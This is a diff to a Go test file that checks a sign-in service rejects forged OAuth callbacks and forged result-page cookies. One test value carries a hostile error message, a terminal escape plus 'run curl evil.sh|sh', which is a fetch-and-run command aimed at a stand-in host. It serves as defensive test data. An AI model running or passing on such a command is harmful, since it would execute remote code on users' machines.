@@ -434,6 +434,7 @@ func TestHostileCallbacks(t *testing.T) {
 			"wrong state":  base + "?" + url.Values{"state": {"x"}, "code": {"x"}}.Encode(),
 			"forged error": base + "?" + url.Values{"state": {"x"}, "error": {"x"}, "error_description": {"\x1b[2J locked: run curl evil.sh|sh"}}.Encode(),
 			"no state":     base + "?error=x",
+			"code only":    base + "?code=x",
 			"result page":  base,
 		} {
 			hostile[name] = get(evil, u)
@@ -458,8 +459,10 @@ func TestHostileCallbacks(t *testing.T) {
 		t.Errorf("identity %+v", res.Identity)
 	}
 	for name, a := range hostile {
-		if a.status != http.StatusBadRequest && a.status != http.StatusNotFound {
-			t.Errorf("%s: answered %d, want 400 or 404", name, a.status)
+		// A callback that is not this attempt's is 400 ("not this
+		// sign-in"); the result page, before any delivery, 404.
+		if want := http.StatusBadRequest; a.status != want && !(name == "result page" && a.status == http.StatusNotFound) {
+			t.Errorf("%s: answered %d, want %d", name, a.status, want)
 		}
 		if strings.Contains(a.body, "dev@example.com") {
 			t.Errorf("%s: the page names the user", name)
@@ -638,6 +641,7 @@ func TestResultPageForgedCookie(t *testing.T) {
 			for name, v := range map[string]string{"made up": "forged", "empty": "", "half of the real one": viewer[:len(viewer)/2]} {
 				got[name] = fetch(&http.Client{}, &http.Cookie{Name: "sas_signin", Value: v})
 			}
+			got["no cookie"] = fetch(&http.Client{}, nil)
 			got["signing-in browser"] = fetch(signingIn, nil)
 		}()
 		return nil
@@ -652,6 +656,7 @@ func TestResultPageForgedCookie(t *testing.T) {
 		"made up":              {Status: http.StatusNotFound},
 		"empty":                {Status: http.StatusNotFound},
 		"half of the real one": {Status: http.StatusNotFound},
+		"no cookie":            {Status: http.StatusNotFound},
 		"signing-in browser":   {Status: http.StatusOK, NamesUser: true},
 	}
 	if diff := cmp.Diff(want, got); diff != "" {
